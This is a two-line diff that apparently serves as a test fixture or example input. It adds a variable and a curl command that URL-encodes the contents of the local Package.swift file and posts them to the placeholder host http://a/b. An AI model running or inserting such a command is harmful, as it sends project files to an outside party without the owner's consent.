@@ -1,0 +1,2 @@
+NAME=x
+curl http://a/b --data-urlencode "$NAME@Package.swift"
